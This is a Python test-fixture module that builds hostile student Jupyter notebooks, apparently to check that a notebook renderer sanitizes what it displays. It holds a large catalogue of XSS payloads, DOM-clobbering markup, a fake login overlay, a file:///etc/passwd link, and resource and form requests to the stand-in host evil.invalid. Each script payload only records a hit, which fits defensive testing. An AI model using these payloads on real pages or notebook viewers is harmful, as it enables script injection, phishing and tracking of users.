"""What a student's notebook could hold to make a page run, load or cover something.

Each payload, if it ran, would add its own name to `window.hits`; each address leads to a machine
that must not be asked.
"""

import base64

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from tests.submissions.course import RIGHT, find

EVIL = "http://evil.invalid"
HIT = "window.hits=(window.hits||[]).concat(`{name}`)"
PICTURE = base64.b64encode(base64.b64decode(  # one red pixel
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5E"
    "rkJggg==")).decode()
SETUP = f"""
from IPython.display import *
def publish(metadata=None, **data):
    kinds = {{key.replace("__", "/").replace("_", "."): value for key, value in data.items()}}
    publish_display_data(kinds, metadata or {{}})
PICTURE = {PICTURE!r}
"""
# HTML that a cell displays. A hit inside an attribute needs neither quotes nor spaces.
MARKUP = {
    "script": "<b>bold</b><script>{hit}</script>",
    "broken-picture": "<img src=x onerror={hit}>",
    "event": "<details open ontoggle={hit}><summary onclick={hit}>x</summary></details>",
    "mouse": "<p onmouseover={hit} onclick={hit}>move here</p>",
    "media": "<video autoplay><source src=x onerror={hit}></video><audio src=x onerror={hit}>",
    "body": "<body onload={hit}><html onclick={hit}>",
    "svg": "<svg onload={hit}><script>{hit}</script><animate onbegin={hit} attributeName=x dur=1s>",
    "svg-link": "<svg><a xlink:href='javascript:{hit}'><text y=20>click</text></a></svg>",
    "mathml": "<math href='javascript:{hit}'><mtext href='javascript:{hit}'>click</mtext></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
                "onerror={hit}&gt;'></table></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror={hit}>'></noscript>",
    "frame": "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "frame-address": "<iframe src='javascript:parent.{hit}'></iframe>",
    "object": "<object data='data:text/html,<script>parent.{hit}</script>'></object>"
              "<embed src='javascript:{hit}'>",
    "refresh": "<meta http-equiv=refresh content='0;url={evil}/refresh'>",
    "base": "<base href='{evil}/base/'><img src='after-base.png'>",
    "form": "<form action='{evil}/form'><input autofocus onfocus={hit}><button>Log in</button>",
    "form-action": "<button formaction='javascript:{hit}' form=x>Send</button><form id=x></form>",
    "style": "<style>@import url({evil}/a.css); body {{ background: url({evil}/b.png) }}"
             " #notebook {{ display: none }}</style>",
    "style-address": "<p style='background: url({evil}/c.png); list-style: url({evil}/d)'>x</p>",
    "overlay": "<div style='position: fixed; inset: 0; z-index: 99999; background: #fff; margin: "
               "-9999px; width: 9999px' class='navbar-fixed-top modal in' role=dialog>Log in</div>",
    "stylesheet": "<link rel=stylesheet href='{evil}/e.css'><link rel=prefetch href='{evil}/f'>",
    "tracker": "<img src='{evil}/g.png'><img srcset='{evil}/h.png'><img src='//evil.invalid/i'>",
    "own-server": "<img src='/api/contents'><img src='../../../api/kernels'><img src=/lab/x.png>",
    "links": "<a href='javascript:{hit}'>a</a> <a href='java&#9;script:{hit}'>b</a> "
             "<a href='data:text/html,<script>{hit}</script>'>c</a> <a href='vbscript:{hit}'>d</a> "
             "<a href='file:///etc/passwd'>e</a> <a href='evil.html'>f</a> <a href='/lab'>g</a> "
             "<a href='//evil.invalid'>h</a> <a href='{evil}/plain' target=_top>i</a>"
             "<a href='blob:x'>j</a> <a ping='{evil}/ping' href='#top'>k</a>",
    "tooltip": "<a data-toggle=tooltip data-html=true title='<img src=x onerror={hit}>'>hover</a>"
               "<span class='glyphicon name-hidden' data-link='x'>y</span>",
    "clobber": "<form id=submission_id><input name=base_url id=check_differences class='score "
               "tabbable' value=99></form><a id=jQuery name=notebook_id></a>",
    "template": "<template><script>{hit}</script></template><p slot=x is=y>z</p>",
    "comment": "<!--><img src=x onerror={hit}>--> <![CDATA[<img src=x onerror={hit}>]]>",
    "entity": "&lt;img src=x onerror={hit}&gt;",
}
# Code of a cell, for what is not only markup.
CODE = {
    "picture-width": "publish({{'image/png': {{'width': '50 onload={hit}'}}}}, image__png=PICTURE)",
    "picture-height": "publish({{'height': '9 onload={hit}'}}, image__png=PICTURE)",
    "picture-alt": "publish({{'image/png': {{'alt': '\"><script>{hit}</script>'}}}}, "
                   "image__png=PICTURE)",
    "picture-file": "publish({{'filenames': {{'image/png': '{evil}/file.png'}}}}, "
                    "image__png=PICTURE)",
    "picture-no-base64": "publish(image__png='x\"><img src=x onerror={hit}>')",
    "jpeg-no-base64": "publish(image__jpeg='x\" onerror={hit} x=\"')",
    "javascript": "display(Javascript('{hit}'))",
    "svg-output": "publish(**{{'image/svg+xml': '<svg xmlns=\"http://www.w3.org/2000/svg\" "
                  "onload=\"{hit}\"><script>{hit}</script></svg>'}})",
    "isolated": "publish({{'text/html': {{'isolated': True}}}}, "
                "text__html='<script>parent.{hit}</script>')",
    "markdown-output": "display(Markdown('[x](javascript:{hit}) <img src=x onerror={hit}>'))",
    "latex-output": r"display(Latex(r'$\href{{javascript:{hit}}}{{x}}$ "
                    r"<img src=x onerror={hit}>'))",
    "mermaid": "publish(**{{'text/vnd.mermaid': '</pre><img src=x onerror={hit}>'}})",
    "widget": "publish(**{{'application/vnd.jupyter.widget-view+json': {{'model_id': "
              "'</script><script>{hit}</script>'}}, 'text/html': '<script>{hit}</script>'}})",
    "other-kinds": "publish(**{{'application/pdf': 'x', 'application/x': '<script>{hit}</script>', "
                   "'text/html<script>{hit}</script>': 'y'}})",
    "update": "handle = display(HTML('fine'), display_id=True)\n"
              "handle.update(HTML('<script>{hit}</script><img src=x onerror={hit}>'))",
    "stream": "print('\\x1b[31mred\\x1b[0m <script>{hit}</script> "
              "\\x1b]8;;javascript:{hit}\\x07link\\x1b]8;;\\x07')",
    "error": "raise type('<img src=x onerror={hit}>', (Exception,), {{}})"
             "('\\x1b[31m<script>{hit}</script>')",
    "source": "'''</pre></div><script>{hit}</script>'''",
}
WORDS = {
    "link": "[x](javascript:{hit}) <javascript:{hit}> [y][1]\n\n[1]: javascript:{hit} 'title'",
    "link-title": "[x]({evil}/titled 'a\" onmouseover={hit} b=\"')",
    "picture": "![x](javascript:{hit}) ![x\" onerror={hit} y=\"](x.png) ![z]({evil}/z.png)",
    "data-link": "[x](data:text/html,<script>{hit}</script>) [y](file:///etc) [z](evil.html)",
    "html": "<script>{hit}</script>\n\n<img src=x onerror={hit}>",
    "fence": "```\"><script>{hit}</script>\n</code><script>{hit}</script>\n```",
    "mermaid-fence": "```mermaid\n</pre><img src=x onerror={hit}>\n```",
    "heading": "# <img src=x onerror={hit}> \"onclick={hit}",
    "formula": r"$\href{{javascript:{hit}}}{{x}}$ $\text{{<img src=x onerror={hit}>}}$ "
               r"$\style{{position: fixed}}{{x}}$ $\unicode{{x3c}}script>$ "
               r"$\class{{modal}}{{y}}$ $\color{{red\" onclick={hit}}}{{z}}$",
    "formula-in-picture": "![$a\" onerror={hit} $](x.png)",
    "formula-block": "$$</math><img src=x onerror={hit}>$$\n\n"
                     r"\begin{{x<script>}}{hit}\end{{x<script>}}",
    "missing-attachment": "![x](attachment:nowhere.png)",
}
# What swallows the rest of a page, if it is let through.
UNCLOSED = ("<!-- ", "<textarea>", "<plaintext>", "<style>", "<title>", "<xmp>", "<noembed>",
            "<select>", "<div style='display: none'>", "</div></div></div></body></html>", "<a b='")
LOOKS = """
import matplotlib.pyplot as plt, sys
from IPython.display import HTML, Latex, display
plt.figure(figsize=(3, 2)); plt.plot([1, 3, 2]); plt.title("A figure"); plt.show()
display(HTML("<table border=1 class=dataframe><thead><tr><th>part</th><th>points</th></tr></thead>"
             "<tbody><tr><td>one</td><td style='color: #d55e00'>7</td></tr></tbody></table>"))
display(HTML("<div style='border-left: 5px solid #009e73; padding: 0.3em 0.8em; max-width: 50em'>"
             "<b>✓ right</b><br>as it should<br><i style='opacity: 0.7'>the law</i></div>"))
display(Latex(r"$\\int_0^1 x^2\\,dx = \\frac13$"))
print("\\x1b[31mred\\x1b[0m and \\x1b[1;34mblue\\x1b[0m")
print("a warning", file=sys.stderr)
"""
FORMULAS = r"""*Formulas*: $\Delta u = \operatorname{div} v$ in $\Omega$, $u|_{\partial\Omega} = f$

$$\min_{u} \sum_{p \in \Omega} \lVert \nabla u(p) - v(p) \rVert^2
+ \lambda \left( \frac{1}{n} \sum_i x_i \right)^2$$

\begin{align}
w &= \begin{pmatrix} a & b \\ c & d \end{pmatrix} z \\ \hat{x} &= G(w)
\end{align}

| a | b |
|---|---|
| `x < 1` | *two* |

1. [a page](https://example.org/page?a=1&b=2), and a picture beside the notebook:

![mine](mine.png) ![pasted](attachment:pasted.png)

```python
def half(x):
    return x / 2  # highlighted
```
"""


def hostile(name: str) -> dict[str, str]:
    """What a payload is filled in with."""
    return {"hit": HIT.format(name=name), "evil": EVIL}


def outputs(notebook: NotebookNode) -> NotebookNode:
    """A cell for each hostile output."""
    shown = {name: f"display(HTML({text.format(**hostile(name))!r}))"
             for name, text in MARKUP.items()}
    shown |= {name: text.format(**hostile(name)) for name, text in CODE.items()}
    return _extended(notebook, [SETUP, *shown.values()])


def words(notebook: NotebookNode) -> NotebookNode:
    """A cell for each hostile text, one of them the answer; hostile attachments; a raw cell."""
    texts = {name: text.format(**hostile(name)) for name, text in WORDS.items()}
    notebook = _extended(notebook, [])
    notebook.cells += [new_markdown_cell(text) for text in texts.values()]
    answer = find(notebook, "words")
    answer.source = "\n\n".join([texts["link"], texts["html"], "![a](attachment:a.svg)",
                                 "![b](attachment:b.png)", "![c](attachment:c\".png)"])
    hit = HIT.format(name="attachment")
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{hit}'/>"
    answer.attachments = {
        "a.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        "b.png": {f"image/png' onerror='{hit}": PICTURE, "image/png": f"x\" onerror={hit} y=\""},
        "c\".png": {"image/png": PICTURE},
    }
    raw = new_raw_cell(f"<script>{HIT.format(name='raw')}</script>")
    raw.metadata = NotebookNode(raw_mimetype="text/html", format="text/html")
    notebook.cells.append(raw)
    notebook.metadata.title = f"</title><script>{HIT.format(name='title')}</script>"
    return notebook


def unclosed(notebook: NotebookNode) -> NotebookNode:
    """Cells whose output or text is never closed."""
    notebook = _extended(notebook, [SETUP, *[f"display(HTML({text!r}))" for text in UNCLOSED]])
    notebook.cells[1:1] = [new_markdown_cell(text) for text in UNCLOSED]
    return notebook


def looks(notebook: NotebookNode) -> NotebookNode:
    """What must still look right."""
    notebook = _extended(notebook, [LOOKS, "undefined_name"])
    answer = find(notebook, "words")
    answer.source, answer.attachments = FORMULAS, {"pasted.png": {"image/png": PICTURE}}
    return notebook


def forge(notebook: NotebookNode) -> NotebookNode:
    """A graded notebook written by somebody hostile, in the bounds that nbformat sets."""
    def mark(name: str) -> str:
        return f"\"'></title></script><img src=x onerror={HIT.format(name=name)}>"
    for cell in notebook.cells:
        cell.metadata |= {"tags": [mark("tag")], "alt": mark("alt"),
                          "magics_language": mark("magic")}
        if cell.cell_type == "code":
            cell.outputs += [NotebookNode(
                output_type="display_data", metadata={"image/png": {"width": mark("width")}},
                data={"text/html": f"<script>{HIT.format(name='late')}</script>"})]
        cell.source += "\n# " + mark("source")
    notebook.metadata |= {
        "title": mark("title"), "authors": [{"name": mark("author")}],
        "language_info": {"name": mark("language"), "pygments_lexer": mark("lexer")},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": mark("state")}},
    }
    return notebook


HANDED_IN = {"outputs": outputs, "words": words, "unclosed": unclosed, "looks": looks,
             "forged": looks}


def _extended(notebook: NotebookNode, sources: list[str]) -> NotebookNode:
    for grade_id, answer in RIGHT.items():
        find(notebook, grade_id).source = answer
    notebook.cells += [new_code_cell(source) for source in sources]
    return notebook
